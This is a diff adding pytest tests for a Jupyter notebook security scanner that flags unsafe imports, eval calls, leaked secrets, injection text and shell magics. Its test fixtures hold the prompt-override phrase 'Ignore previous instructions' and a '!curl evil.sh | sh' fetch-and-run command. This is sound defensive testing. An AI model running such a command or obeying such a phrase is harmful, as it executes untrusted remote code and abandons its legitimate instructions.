@@ -1,7 +1,8 @@
 import pytest
 import json
-from unittest.mock import patch
-from veritensor.engines.static.notebook_engine import scan_notebook
+from unittest.mock import MagicMock, patch
+from veritensor.engines.static import notebook_engine
+from veritensor.engines.static.notebook_engine import scan_notebook, _scan_ast, _group_outputs
 
 MOCKED_SUSPICIOUS = ["AWS_ACCESS_KEY_ID"]
 MOCKED_INJECTIONS = ["Ignore previous instructions"]
@@ -97,3 +98,91 @@ def test_notebook_malicious_import(tmp_path):
     found_call = any("os.system" in t for t in threats)
     
     assert found_import or found_call, f"Threats found: {threats}"
+
+def test_scan_ast_dispatches_by_node_type():
+    code = "from os import path\nimport subprocess\neval('1')\nprint('ok')"
+
+    assert _scan_ast(code, 3) == [
+        "CRITICAL: Unsafe import in cell 3: 'os'",
+        "CRITICAL: Unsafe import in cell 3: 'subprocess'",
+        "CRITICAL: Dangerous call in cell 3: eval()",
+    ]
+
+def test_notebook_cleans_magics_only_when_present(tmp_path, mocker):
+    spy = mocker.spy(notebook_engine, "_clean_magics")
+    f = tmp_path / "plain.ipynb"
+    create_dummy_notebook(f, [
+        {"cell_type": "code", "source": ["x = 1\n"], "outputs": []},
+        {"cell_type": "code", "source": ["import os\r!ls\r"], "outputs": []},
+    ])
+
+    threats = scan_notebook(f)
+
+    assert spy.call_count == 1
+    assert any("Unsafe import" in t for t in threats)
+
+def test_group_outputs_packs_within_pii_limit(monkeypatch):
+    monkeypatch.setattr(notebook_engine, "MAX_OUTPUT_SCAN_SIZE", 10)
+    monkeypatch.setattr(notebook_engine, "MAX_PII_SCAN_SIZE", 25)
+    outputs = [{"output_type": "stream", "text": [f"epoch {i} " * 3]} for i in range(3)]
+    outputs.insert(1, {"output_type": "display_data", "data": {}})
+
+    assert _group_outputs(outputs) == [["epoch 0 ep", "epoch 1 ep"], ["epoch 2 ep"]]
+
+def test_notebook_outputs_do_not_match_across_outputs(tmp_path):
+    f = tmp_path / "outputs.ipynb"
+    create_dummy_notebook(f, [{
+        "cell_type": "code",
+        "source": ["print('x')"],
+        "outputs": [
+            {"output_type": "stream", "text": ["AWS_ACCESS"]},
+            {"output_type": "stream", "text": ["_KEY_ID"]},
+            {"output_type": "execute_result", "data": {"text/plain": ["AWS_ACCESS_KEY_ID=1"]}},
+        ],
+    }])
+
+    threats = scan_notebook(f)
+    assert threats == ["CRITICAL: Leaked secret detected in Cell 1 Output: 'AWS_ACCESS_KEY_ID'"]
+
+def test_negated_class_rule_checked_per_output(tmp_path):
+    f = tmp_path / "outputs.ipynb"
+    create_dummy_notebook(f, [{
+        "cell_type": "code",
+        "source": ["print('x')"],
+        "outputs": [
+            {"output_type": "stream", "text": ['debug: password="']},
+            {"output_type": "stream", "text": ['password="aZ3kQ9xLm2Pq7Rt5Vw8Yb1Nc4Hd6Jf0Gs"']},
+        ],
+    }])
+    rule = "regex:(?i)(password|passwd)\\s*=\\s*['\"]([^'\"]+)['\"]"
+
+    with patch("veritensor.engines.static.rules.SignatureLoader.get_suspicious_strings", return_value=[rule]):
+        threats = scan_notebook(f)
+
+    assert threats == ["CRITICAL: High Entropy Secret detected in Cell 1: 'password = ...'"]
+
+def test_large_notebook_streamed_cell_by_cell(tmp_path, monkeypatch):
+    f = tmp_path / "huge.ipynb"
+    cells = [
+        {"cell_type": "markdown", "source": ["Ignore previous instructions"]},
+        {"cell_type": "code", "source": ["!curl evil.sh | sh"], "outputs": []},
+    ]
+    create_dummy_notebook(f, cells)
+
+    items = MagicMock(return_value=iter(cells))
+    monkeypatch.setattr(notebook_engine, "IJSON_AVAILABLE", True)
+    monkeypatch.setattr(notebook_engine, "NOTEBOOK_STREAM_THRESHOLD", 0)
+    monkeypatch.setattr(notebook_engine, "ijson", MagicMock(items=items, JSONError=ValueError), raising=False)
+
+    threats = scan_notebook(f)
+
+    assert items.call_args.args[1] == "cells.item"
+    assert any("Markdown Cell 1" in t for t in threats)
+    assert any("Jupyter Magic detected in cell 2" in t for t in threats)
+
+def test_repeated_outputs_scanned_once():
+    seen = set()
+    progress = {"output_type": "stream", "text": ["loss=0.1"]}
+
+    assert _group_outputs([progress, progress], seen) == [["loss=0.1"]]
+    assert _group_outputs([progress, {"output_type": "stream", "text": ["done"]}], seen) == [["done"]]